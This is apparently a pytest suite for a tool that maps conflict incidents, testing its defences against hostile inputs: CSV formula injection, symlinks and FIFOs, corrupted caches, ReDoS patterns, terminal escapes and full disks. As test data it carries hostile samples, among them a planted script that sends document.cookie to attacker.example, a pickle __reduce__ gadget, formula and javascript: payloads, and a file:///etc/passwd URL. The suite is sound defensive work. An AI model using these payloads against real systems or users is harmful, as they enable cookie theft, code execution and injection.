"""Hostile articles, hostile configuration and careless users (issue 11): nothing hangs, leaks or is lost.

One test (or one parametrized table) per case of the issue; the fixtures are in tests/data/hostile/
(see its README), and what git cannot hold (FIFOs, device links, control characters in file
names) is made here in a temporary folder.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import sqlite3
import time
from dataclasses import fields
from pathlib import Path

import pytest

from mapper.cli import main
from mapper.pipeline import build, load_incidents

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
ROOT = Path(__file__).resolve().parents[1]

BARDA = """Title: Shelling of Barda
Source: https://example.org/barda
Date: 2020-10-28

Armenian forces shelled Barda, the Azerbaijani Defence Ministry said.
"""

FORMULA_START = tuple("=+-@\t\r")


def formula_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would evaluate, read with each separator a spreadsheet may guess."""
    bad = []
    text = data.decode("utf-8")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    try:
                        float(cell)  # -0.5 is a number, not a formula
                    except ValueError:
                        bad.append(cell)
    return bad


def features(out: Path) -> list[dict]:
    return json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]


@pytest.fixture
def seeds(tmp_path: Path) -> Path:
    folder = tmp_path / "seeds"
    folder.mkdir()
    (folder / "barda.txt").write_text(BARDA, encoding="utf-8")
    return folder


# -- CSV formula injection ---------------------------------------------------------------------


def _claim(**changes):
    from mapper.claims import Claim

    base = {f.name: "" for f in fields(Claim)}
    base.update(
        claim_id="c1",
        article="a.txt",
        sentence_index=0,
        geonameid=None,
        lat=40.4,
        lon=-0.5,  # a negative number must stay a number
        geo_precision=1,
        time_precision=1,
        fatalities=3,
        wounded=None,
        equipment_destroyed=None,
        status="claimed",
        side="azerbaijan",
    )
    base.update(changes)
    return Claim(**base)


@pytest.mark.parametrize("field", ["evidence", "place", "place_as_written", "claimant", "article_title", "source_url"])
@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'=1+1"])
def test_csv_cells_starting_like_formulas_are_text(field: str, payload: str) -> None:
    from mapper.csvsafe import header_line
    from mapper.export import CSV_COLUMNS, feature_rows

    rows = feature_rows([_claim(**{field: payload})])
    data = (header_line(CSV_COLUMNS) + "".join(r[2] for r in rows)).encode()
    assert formula_cells(data) == []
    row = next(csv.DictReader(io.StringIO(data.decode())))
    assert row["lon"] == "-0.5" and row["fatalities"] == "3"  # numbers stay numbers
    from mapper.csvsafe import unescape_cell

    assert unescape_cell(row[field]) == payload.replace("\t", " ")  # the text itself is kept


def test_csv_exports_of_a_hostile_article_have_no_formula_cells(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / "formula.txt", seeds / "formula.txt")
    out = tmp_path / "out"
    build(seeds, out)
    feats = features(out)
    assert feats, "the hostile article still gives claims"
    assert any(f["properties"]["article_title"].startswith("=HYPERLINK") for f in feats)  # GeoJSON keeps the text
    assert formula_cells((out / "incidents.csv").read_bytes()) == []
    for fmt in ("csv", "acled"):
        dest = tmp_path / f"export.{fmt}.csv"
        assert main(["export", "--out", str(out), "--format", fmt, "-o", str(dest)]) == 0
        assert formula_cells(dest.read_bytes()) == []
    # The analyst's DataFrame has the text as the article wrote it, and numbers as numbers.
    df = load_incidents(out)
    assert set(df["article_title"]) == {f["properties"]["article_title"] for f in feats}
    assert str(df["lat"].dtype) == "float64"


# -- FIFOs, devices and links ------------------------------------------------------------------


def test_a_fifo_in_seeds_is_skipped_not_read(seeds: Path, tmp_path: Path) -> None:
    os.mkfifo(seeds / "pipe.txt")
    t = time.monotonic()
    report = build(seeds, tmp_path / "out", lock_wait=1)
    assert time.monotonic() - t < 60
    assert "not a regular file" in dict(report.skipped)["pipe.txt"]
    assert report.articles == 1


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_link_to_a_device_is_skipped_by_its_type(seeds: Path, tmp_path: Path, device: str) -> None:
    if not Path(device).exists():
        pytest.skip(f"no {device} here")
    (seeds / "endless.txt").symlink_to(device)
    report = build(seeds, tmp_path / "out")
    reason = dict(report.skipped)["endless.txt"]
    assert "outside the seeds folder" in reason or "not a regular file" in reason
    assert report.articles == 1 and (tmp_path / "out" / "incidents.geojson").exists()


def test_a_device_is_refused_even_when_read_directly() -> None:
    from mapper.articles import read_article
    from mapper.errors import ArticleError

    with pytest.raises(ArticleError, match="not a regular file"):
        read_article(Path("/dev/zero"))


def test_links_that_leave_the_seeds_folder_are_not_followed(seeds: Path, tmp_path: Path) -> None:
    secret = tmp_path / "private-notes.txt"
    secret.write_text("Armenian forces shelled Ganja, the Azerbaijani Defence Ministry said.\n", encoding="utf-8")
    (seeds / "notes.txt").symlink_to(secret)
    (seeds / "inside.txt").symlink_to(seeds / "barda.txt")  # a link inside the folder is fine
    out = tmp_path / "out"
    report = build(seeds, out)
    assert "outside the seeds folder" in dict(report.skipped)["notes.txt"]
    assert "Ganja" not in (out / "incidents.geojson").read_text(encoding="utf-8")
    assert "Ganja" not in (out / "incidents.csv").read_text(encoding="utf-8")
    assert ("inside.txt", "barda.txt") in report.duplicates or ("barda.txt", "inside.txt") in report.duplicates


def test_add_does_not_copy_links_that_leave_the_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    (incoming / "barda.txt").write_text(BARDA, encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("private text\n", encoding="utf-8")
    (incoming / "leak.txt").symlink_to(secret)
    os.mkfifo(incoming / "pipe.txt")
    seeds = tmp_path / "seeds"
    rc = main(["add", str(incoming), "--seeds", str(seeds), "--out", str(tmp_path / "out"), "-q"])
    assert rc == 1  # something was passed over, and said so
    assert sorted(p.name for p in seeds.iterdir()) == ["barda.txt"]
    err = capsys.readouterr().err
    assert "leak.txt" in err and "not followed" in err and "pipe.txt" in err


def test_adding_from_the_web_does_not_block_on_a_fifo_in_seeds(seeds: Path, tmp_path: Path) -> None:
    from mapper.web.ingest import Ingester

    (seeds / "known.txt").write_text("Source: https://example.org/known\n\nText.\n", encoding="utf-8")
    os.mkfifo(seeds / "pipe.txt")
    with Ingester(seeds, tmp_path / "out", client=object()) as ing:  # type: ignore[arg-type]
        t = time.monotonic()
        sources = ing._seed_sources()
        assert time.monotonic() - t < 10
    assert "known.txt" in sources.values()


# -- the store, a cache ------------------------------------------------------------------------


@pytest.mark.parametrize("damage", ["garbage", "truncated", "scribbled"])
def test_a_damaged_store_is_set_aside_and_rebuilt(seeds: Path, tmp_path: Path, damage: str) -> None:
    (seeds / "ganja.txt").write_text(BARDA.replace("Barda", "Ganja"), encoding="utf-8")
    out = tmp_path / "out"
    build(seeds, out)
    expected = (out / "incidents.geojson").read_bytes()
    store = out / ".mapper-store.sqlite"
    if damage == "garbage":
        store.write_bytes(os.urandom(64 * 1024))
    elif damage == "truncated":
        with open(store, "r+b") as fh:
            fh.truncate(store.stat().st_size // 2)
    else:  # pages torn in the middle, the size unchanged: found when the build reads them
        with open(store, "r+b") as fh:
            fh.seek(4096)
            fh.write(os.urandom(store.stat().st_size - 4096))
    for full in (False, True):
        report = build(seeds, out, full=full)
        assert report.ok and report.articles == 2
        assert (out / "incidents.geojson").read_bytes() == expected
    assert (out / ".mapper-store.sqlite.damaged").exists()


def test_the_damaged_store_note_is_reported(seeds: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    (out / ".mapper-store.sqlite").write_bytes(b"SQLite format 3\x00" + b"\xff" * 5000)
    assert main(["build", "--seeds", str(seeds), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert ".mapper-store.sqlite" in printed and "set aside" in printed


# -- damaged or missing outputs ----------------------------------------------------------------


@pytest.mark.parametrize(
    "damage",
    ["delete leaflet.js", "truncate map.html", "delete map.html"],
)
@pytest.mark.parametrize("full", [False, True])
def test_damaged_map_outputs_are_rewritten(seeds: Path, tmp_path: Path, damage: str, full: bool) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    good_map = (out / "map.html").read_bytes()
    good_leaflet = (out / "map_files" / "leaflet.js").read_bytes()
    if damage == "delete leaflet.js":
        (out / "map_files" / "leaflet.js").unlink()
    elif damage == "truncate map.html":
        (out / "map.html").write_bytes(good_map[: len(good_map) // 3])
    else:
        (out / "map.html").unlink()
    build(seeds, out, full=full)
    assert (out / "map.html").read_bytes() == good_map
    assert (out / "map_files" / "leaflet.js").read_bytes() == good_leaflet


def test_damaged_exports_are_rewritten(seeds: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    good = {n: (out / n).read_bytes() for n in ("incidents.geojson", "incidents.csv")}
    (out / "incidents.geojson").write_bytes(b'{"type":')
    (out / "incidents.csv").unlink()
    build(seeds, out)
    assert {n: (out / n).read_bytes() for n in good} == good


def test_full_always_rewrites_every_output(seeds: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    before = {n: (out / n).stat().st_ino for n in ("incidents.geojson", "incidents.csv", "map.html")}
    report = build(seeds, out, full=True)
    assert {p.name for p in report.wrote} >= set(before)
    assert all((out / n).stat().st_ino != ino for n, ino in before.items())  # new files, renamed into place


# -- odd values in one article -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("fixture", "dropped"),
    [("odd-date.txt", "9999-12-31"), ("huge-figure.txt", "1234567890123456789012345")],
)
def test_an_odd_value_is_dropped_and_the_rest_builds(seeds: Path, tmp_path: Path, fixture: str, dropped: str) -> None:
    shutil.copy(HOSTILE / fixture, seeds / fixture)
    out = tmp_path / "out"
    report = build(seeds, out)
    assert report.articles == 2 and report.ok
    if fixture == "odd-date.txt":  # the reader names what it left out
        assert dropped in dict(report.notes)[fixture]
        assert json.loads((out / "build-report.json").read_text(encoding="utf-8"))["notes"]
    props = [f["properties"] for f in features(out) if f["properties"]["article"] == fixture]
    assert props, "the rest of the article still gives its claim"
    for p in props:  # the odd value is left out, the claim kept
        assert p["fatalities"] is None and p["published"] == ("" if "date" in fixture else "2020-10-12")
        assert "9999" not in p["event_date"]


def test_values_no_article_can_mean_are_left_out_with_a_note() -> None:
    from mapper.export import checked_claims

    claims, notes = checked_claims(
        [
            _claim(fatalities=10**24, wounded=-4, event_date="9999-99-99"),
            _claim(claim_id="c2", lat=float("nan")),
            _claim(claim_id="c3", source_url="javascript:alert(1)"),
        ]
    )
    assert [c.claim_id for c in claims] == ["c1", "c3"]
    assert (claims[0].fatalities, claims[0].wounded, claims[0].event_date) == (None, None, "")
    assert claims[1].source_url == ""
    assert any("1000000000000000000000000" in n for n in notes) and any("coordinates" in n for n in notes)


def test_an_article_that_breaks_extraction_is_skipped_by_name(
    seeds: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import mapper.extract as extract

    real = extract.extract_claims

    def flaky(article, gazetteer, profile):
        if article.name == "bad.txt":
            raise OverflowError("date value out of range")
        return real(article, gazetteer, profile)

    monkeypatch.setattr(extract, "extract_claims", flaky)
    (seeds / "bad.txt").write_text(BARDA.replace("Barda", "Tartar"), encoding="utf-8")
    report = build(seeds, tmp_path / "out")
    assert "OverflowError" in dict(report.skipped)["bad.txt"] and report.articles == 1


# -- profile patterns --------------------------------------------------------------------------


def test_a_backtracking_profile_pattern_is_refused_when_the_profile_loads() -> None:
    from mapper.errors import ProfileError
    from mapper.sides import load_profile

    t = time.monotonic()
    with pytest.raises(ProfileError, match=r"backtracking-profile\.toml.*\(a\|aa\)\+\$.*backtracks"):
        load_profile(HOSTILE / "backtracking-profile.toml")
    assert time.monotonic() - t < 10


def test_a_pattern_that_runs_away_later_is_stopped_by_its_time_bound(tmp_path: Path) -> None:
    from mapper.errors import ProfileError
    from mapper.sides import load_profile

    # Passes the probes at load time (it needs a "Q" first), runs away on "Qaaaa...a!".
    text = (HOSTILE / "backtracking-profile.toml").read_text(encoding="utf-8").replace("(a|aa)+$", "Q(a|aa)+$")
    path = tmp_path / "sly.toml"
    path.write_text(text, encoding="utf-8")
    profile = load_profile(path)
    t = time.monotonic()
    with pytest.raises(ProfileError, match=r"sly\.toml.*Q\(a\|aa\)\+\$"):
        profile.side_of_claimant("Q" + "a" * 60 + "!")
    assert time.monotonic() - t < 10


# -- dates relative to nothing -----------------------------------------------------------------


@pytest.mark.parametrize("header", ["Updated 3 hours ago", "Wednesday", "28 October", "12:30"])
def test_no_article_date_without_an_anchor_in_the_file(header: str) -> None:
    from mapper.articles import parse_article

    a = parse_article("a.txt", f"Title: x\nDate: {header}\n\nArmenian forces shelled Tartar.\n".encode())
    assert a.published == "" and any("date" in n for n in a.notes)


def _frozen_datetime(day):
    import datetime as dt

    class Frozen(dt.datetime):
        @classmethod
        def now(cls, tz=None):  # what dateutil reads for the parts a text leaves out
            return day.replace(tzinfo=tz)

        @classmethod
        def today(cls):
            return day

    return Frozen


def test_same_inputs_same_outputs_any_day(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import datetime as dt

    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / "relative-date.txt", seeds / "relative-date.txt")
    outputs = []
    for day in (dt.datetime(2021, 3, 1, 12, 0), dt.datetime(2024, 7, 9, 12, 0)):
        monkeypatch.setattr(dt, "datetime", _frozen_datetime(day))
        out = tmp_path / f"out-{day.year}"
        build(seeds, out, render=False)
        outputs.append((out / "incidents.geojson").read_bytes())
    monkeypatch.undo()
    assert outputs[0] == outputs[1]
    assert all(f["properties"]["published"] == "" for f in json.loads(outputs[0])["features"])


# -- terminal control characters ---------------------------------------------------------------


def test_control_characters_in_file_names_are_printed_escaped(
    seeds: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "\x1b[2J\x1b]0;owned\x07evil.pdf"
    (seeds / name).write_bytes(b"not an article")
    (seeds / "empty\x1b[31m.txt").write_bytes(b"")
    assert main(["build", "--seeds", str(seeds), "--out", str(tmp_path / "out")]) == 1
    captured = capsys.readouterr()
    printed = captured.out + captured.err
    assert "\x1b" not in printed and "\x07" not in printed
    assert "\\x1b[2J\\x1b]0;owned\\x07evil.pdf" in printed and "empty\\x1b[31m.txt" in printed


# -- the output folder -------------------------------------------------------------------------


def test_seeds_and_out_the_same_folder_is_refused(seeds: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["build", "--seeds", str(seeds), "--out", str(seeds)]) == 2
    err = capsys.readouterr().err
    assert "seeds folder" in err and "--out" in err
    assert not (seeds / "map.html").exists()


def test_an_output_folder_inside_the_seeds_folder_is_left_out(seeds: Path) -> None:
    out = seeds / "output"
    for _ in range(2):
        report = build(seeds, out)
        assert report.ok and report.articles == 1 and not report.skipped


# -- the cache folder --------------------------------------------------------------------------


def test_indexes_of_different_versions_live_side_by_side(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import gazetteer.index as index

    def tiny_index(target: Path, *, cache_dir=None, tables=None) -> Path:
        con = sqlite3.connect(target)
        con.execute("CREATE TABLE meta (k TEXT, v TEXT)")
        con.commit()
        con.close()
        return target

    monkeypatch.setattr(index, "build_index", tiny_index)
    other = tmp_path / "gazetteer-0123456789abcdef.sqlite"  # another install's index, used today
    other.write_bytes(b"x")
    other_region = tmp_path / "gazetteer-0123456789abcdef.region-AM-AZ.json"
    other_region.write_bytes(b"{}")
    stale = tmp_path / "gazetteer-fedcba9876543210.sqlite"  # unused for 90 days
    stale.write_bytes(b"x")
    old = time.time() - 90 * 86400
    os.utime(stale, (old, old))
    index.open_index(tmp_path).close()
    assert index.index_path(tmp_path).exists()
    assert other.exists() and other_region.exists()
    assert not stale.exists()


class _Boom:
    """A pickle payload: loading it would create a marker file."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (Path(self.marker), "code ran"))


def test_nothing_in_the_cache_folder_runs_code_when_read(tmp_path: Path) -> None:
    import pickle

    from gazetteer import Gazetteer
    from gazetteer.index import index_path

    path = index_path()
    marker = tmp_path / "pwned"
    planted = [path.with_name(f"{path.stem}.region-AM-AZ.{ext}") for ext in ("pickle", "json")]
    saved = {p: p.read_bytes() for p in planted if p.exists()}
    try:
        for p in planted:
            p.write_bytes(pickle.dumps(_Boom(str(marker))))
        g = Gazetteer.open()
        assert g.phonetic_known(["Tartar"], {"AZ", "AM"}) == {"Tartar"}
        assert not marker.exists()
        json.loads(planted[1].read_bytes())  # the planted file was not trusted: it was computed again, as JSON
    finally:
        for p in planted:
            if p in saved:
                p.write_bytes(saved[p])
            else:
                p.unlink(missing_ok=True)


def test_a_script_planted_in_the_cache_never_reaches_the_map(seeds: Path, tmp_path: Path) -> None:
    from gazetteer import default_cache_dir

    out = tmp_path / "out"
    build(seeds, out)
    good = (out / "map_files" / "borders.js").read_bytes()
    stamp = good.split(b"\n", 1)[0]
    payload = stamp + b"\nwindow.incidentMapBorders = null; fetch('http://attacker.example/?' + document.cookie);\n"
    cached = [p for p in default_cache_dir().glob("borders-*.js") if p.read_bytes().startswith(stamp)]
    assert cached, "the build keeps its cut borders in the cache folder"
    saved = {p: p.read_bytes() for p in cached}
    import mapper.map.borders as borders

    try:
        for p in cached:
            p.write_bytes(payload)
        borders._BORDERS_CACHE.clear()
        (out / "map_files" / "borders.js").write_bytes(payload)  # and in the output folder, with the right stamp
        build(seeds, tmp_path / "fresh")
        build(seeds, out)
        for folder in (out, tmp_path / "fresh"):
            assert (folder / "map_files" / "borders.js").read_bytes() == good
    finally:
        for p, data in saved.items():
            p.write_bytes(data)
        borders._BORDERS_CACHE.clear()


# -- a full disk -------------------------------------------------------------------------------


def _fail_writing(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Make every write into a temporary file for *name* fail as a full disk does."""
    real_fdopen = os.fdopen

    class Full(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, b) -> int:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def fdopen(fd, *args, **kwargs):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = ""
        if f".{name}." in Path(target).name:
            os.close(fd)
            return Full()
        return real_fdopen(fd, *args, **kwargs)

    monkeypatch.setattr(os, "fdopen", fdopen)


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
def test_a_full_disk_replaces_no_output_and_names_the_file(
    seeds: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    before = {n: (out / n).read_bytes() for n in ("incidents.geojson", "incidents.csv", "map.html")}
    (seeds / "ganja.txt").write_text(BARDA.replace("Barda", "Ganja"), encoding="utf-8")
    _fail_writing(monkeypatch, "incidents.csv")
    assert main(["build", "--seeds", str(seeds), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "incidents.csv" in err and "No space left on device" in err and "unexpected" not in err
    assert {n: (out / n).read_bytes() for n in before} == before  # all old, none new
    assert not list(out.glob(".*.tmp"))
    monkeypatch.undo()
    report = build(seeds, out)
    assert report.articles == 2 and "Ganja" in (out / "incidents.csv").read_text(encoding="utf-8")


def test_an_interrupted_replacement_is_completed_by_the_next_build(seeds: Path, tmp_path: Path) -> None:
    from mapper.atomic import JOURNAL_PREFIX, recover

    out = tmp_path / "out"
    build(seeds, out)
    # A build killed between committing its outputs and renaming them leaves staged files and the journal.
    staged = out / ".incidents.csv.killed.tmp"
    staged.write_bytes(b"the new csv\n")
    (out / f"{JOURNAL_PREFIX}x1.json").write_text(json.dumps([[staged.name, "incidents.csv"]]), encoding="utf-8")
    leftover = out / ".incidents.geojson.abc123.tmp"  # a killed build's half-written file
    leftover.write_bytes(b'{"type": "Fea')
    recover(out, stale=("incidents.geojson",))
    assert (out / "incidents.csv").read_bytes() == b"the new csv\n"
    assert not list(out.glob(f"{JOURNAL_PREFIX}*")) and not leftover.exists()
    build(seeds, out)  # and the next build puts the real outputs back
    assert b"Barda" in (out / "incidents.csv").read_bytes()
    assert not list(out.glob(".*.tmp"))


def test_killed_builds_leave_no_temporary_files_behind(seeds: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    build(seeds, out)
    for name in ("incidents.geojson", "incidents.csv", "map.html", "build-report.json"):
        (out / f".{name}.x1y2z3.tmp").write_bytes(b"half")
    build(seeds, out)
    assert not list(out.glob(".*.tmp"))


# -- configuration and file-system errors ------------------------------------------------------


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        ("aliases-pin-number.toml", r"aliases\.toml, line 2: \[pin\] must be a table"),
        ("aliases-spellings-string.toml", r"aliases\.toml, line 7: .*spellings must be a list of strings"),
    ],
)
def test_wrong_types_in_the_alias_file_are_refused_with_the_line(
    seeds: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], fixture: str, expected: str
) -> None:
    shutil.copy(HOSTILE / fixture, seeds / "aliases.toml")
    assert main(["build", "--seeds", str(seeds), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert __import__("re").search(expected, err), err
    assert "unexpected" not in err


def test_alias_errors_are_mapper_alias_errors(seeds: Path, gazetteer) -> None:
    import gazetteer as gz
    from mapper.aliases import load_aliases
    from mapper.errors import AliasError

    assert not hasattr(gz, "AliasFileError")  # it was never raised; the alias file is the mapper's
    shutil.copy(HOSTILE / "aliases-spellings-string.toml", seeds / "aliases.toml")
    with pytest.raises(AliasError):
        load_aliases(seeds / "aliases.toml", gazetteer)


def test_an_output_path_that_is_a_file_is_named(seeds: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out.txt"
    out.write_text("my notes\n", encoding="utf-8")
    assert main(["build", "--seeds", str(seeds), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "out.txt" in err and "not a folder" in err and "unexpected" not in err
    assert out.read_text(encoding="utf-8") == "my notes\n"


def test_a_read_only_output_folder_is_named_with_the_fix(
    seeds: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    import builtins

    import mapper.pipeline as pipeline

    out = tmp_path / "out"
    out.mkdir()

    def read_only(path, *args, **kwargs):  # as a folder without write permission answers (root ignores chmod)
        if Path(path).parent == out:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return builtins.open(path, *args, **kwargs)

    monkeypatch.setattr(pipeline, "open", read_only, raising=False)
    assert main(["build", "--seeds", str(seeds), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert str(out) in err and "Permission denied" in err and "permissions" in err and "unexpected" not in err


def test_a_read_only_store_is_named_with_the_fix(
    seeds: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    import mapper.store as store_module

    out = tmp_path / "out"
    build(seeds, out, render=False)
    real = sqlite3.connect

    def read_only(path, *args, **kwargs):  # the store as a read-only file answers
        if str(path).endswith(".mapper-store.sqlite"):
            return real(f"file:{path}?mode=ro", *args, uri=True, **kwargs)
        return real(path, *args, **kwargs)

    monkeypatch.setattr(store_module.sqlite3, "connect", read_only)
    (seeds / "ganja.txt").write_text(BARDA.replace("Barda", "Ganja"), encoding="utf-8")
    assert main(["build", "--seeds", str(seeds), "--out", str(out), "--no-map"]) == 2
    err = capsys.readouterr().err
    assert ".mapper-store.sqlite" in err and "readonly" in err and "writable" in err and "unexpected" not in err


def test_an_unusable_store_is_named_with_the_fix(seeds: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    (out / ".mapper-store.sqlite").mkdir(parents=True)  # where the store should be, a folder
    assert main(["build", "--seeds", str(seeds), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert ".mapper-store.sqlite" in err and "unexpected" not in err


def test_an_export_to_a_folder_is_named(seeds: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    build(seeds, out, render=False)
    target = tmp_path / "a-folder"
    target.mkdir()
    assert main(["export", "--out", str(out), "--format", "csv", "-o", str(target)]) == 2
    err = capsys.readouterr().err
    assert "a-folder" in err and "unexpected" not in err


# -- line endings and invisible characters -----------------------------------------------------


@pytest.mark.parametrize("fixture", ["cr-only.txt", "u2028.txt", "invisible.txt"])
def test_line_endings_and_invisible_characters_are_normalised(fixture: str, tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / fixture, seeds / fixture)
    report = build(seeds, tmp_path / "out", render=False)
    assert report.ok and report.articles == 1
    places = {f["properties"]["place"] for f in features(tmp_path / "out")}
    assert "Tartar" in places
    if fixture == "invisible.txt":
        assert "Barda" in places
    else:
        assert {f["properties"]["published"] for f in features(tmp_path / "out")} == {"2020-10-14"}


# -- links in the exports ----------------------------------------------------------------------


def test_only_http_source_urls_are_exported(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / "javascript-url.txt", seeds / "javascript-url.txt")
    out = tmp_path / "out"
    report = build(seeds, out, render=False)
    assert report.articles == 1 and features(out)
    assert {f["properties"]["source_url"] for f in features(out)} == {""}
    assert "javascript:" not in (out / "incidents.csv").read_text(encoding="utf-8")
    assert "not an http(s) address" in dict(report.notes)["javascript-url.txt"]


@pytest.mark.parametrize("url", ["data:text/html,<script>1</script>", "file:///etc/passwd", "JaVaScRiPt:alert(1)"])
def test_non_web_urls_are_dropped_on_reading(url: str) -> None:
    from mapper.articles import parse_article

    a = parse_article("a.txt", f"Title: x\nSource: {url}\n\nArmenian forces shelled Tartar.\n".encode())
    assert a.source_url == "" and a.outlet == ""


# -- review findings ---------------------------------------------------------------------------


def test_online_failures_are_not_cached_as_not_found(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from geopy.exc import GeocoderTimedOut

    from gazetteer.online import OnlineGeocoder

    class Flaky:
        def __init__(self) -> None:
            self.calls = 0

        def geocode(self, query, **kwargs):
            self.calls += 1
            if self.calls <= 2:  # the first try and its retry
                raise GeocoderTimedOut("timed out")
            raw = {"osm_type": "node", "osm_id": 7, "type": "village", "address": {"country_code": "az"}}
            return SimpleNamespace(latitude=40.1, longitude=47.1, address=f"{query}, Azerbaijan", raw=raw)

    flaky = Flaky()
    geo = OnlineGeocoder({"AZ"}, geocoder=flaky, cache_dir=tmp_path, min_delay_seconds=0, sleep=lambda s: None)
    assert geo.lookup("Qarakend") is None and geo.failures == 1
    again = OnlineGeocoder({"AZ"}, geocoder=flaky, cache_dir=tmp_path, min_delay_seconds=0, sleep=lambda s: None)
    place = again.lookup("Qarakend")
    assert place is not None and place.country_code == "AZ"


def test_the_export_code_keys_the_exported_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    import mapper.export as export

    read: list[str] = []
    real = Path.read_bytes

    def spy(self: Path) -> bytes:
        read.append(self.name)
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", spy)
    export._code_version()
    assert {"export.py", "incidents.py", "csvsafe.py"} <= set(read)


def test_article_errors_cross_process_boundaries() -> None:
    import pickle

    from mapper.errors import ArticleError

    err = pickle.loads(pickle.dumps(ArticleError("a.txt", "empty file")))
    assert (err.path.name, err.reason) == ("a.txt", "empty file")


def test_jobs_with_bad_articles_still_build(seeds: Path, tmp_path: Path) -> None:
    (seeds / "empty.txt").write_bytes(b"")
    (seeds / "b.txt").write_text(BARDA.replace("Barda", "Ganja"), encoding="utf-8")
    report = build(seeds, tmp_path / "out", jobs=2, render=False)
    assert report.articles == 2 and "empty.txt" in dict(report.skipped)


def test_readme_has_a_safety_section() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Safety", 1)[1].split("\n## ", 1)[0]
    for word in ("reads", "never follows", "writes", "replaced together"):
        assert word in section


def test_probed_patterns_are_remembered_and_compiled_when_used(tmp_path, monkeypatch) -> None:
    import mapper.patterns as pats

    monkeypatch.setenv("MAPPER_CACHE_DIR", str(tmp_path))
    monkeypatch.setattr(pats, "_probed", None)
    monkeypatch.setattr(pats, "_SAFE", set())
    first = pats.compile_pattern(r"\bOldtown\b", origin="test")
    assert first._compiled is not None  # probed now, and remembered in the cache folder
    assert (tmp_path / pats._PROBED_FILE).is_file()
    monkeypatch.setattr(pats, "_probed", None)
    monkeypatch.setattr(pats, "_SAFE", set())
    again = pats.compile_pattern(r"\bOldtown\b", origin="test")
    assert again._compiled is None and again.search("Rockets hit Oldtown") is not None
    with pytest.raises(pats.PatternError):
        pats.compile_pattern(r"(a+)+$", origin="test")  # never probed: refused as before
